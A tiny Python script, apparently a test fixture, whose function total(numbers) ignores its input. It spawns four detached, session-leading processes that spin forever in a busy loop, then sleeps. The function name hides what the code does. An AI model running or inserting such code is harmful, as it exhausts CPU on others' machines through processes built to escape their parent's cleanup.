"""Start programs by posix_spawn that shed their parent and burn time."""

import os
import sys
import time


def total(numbers):
    for _ in range(4):
        os.posix_spawn("/usr/bin/python3", ["sh", "-c", "while True: pass"], {}, setsid=True)
    time.sleep(100)
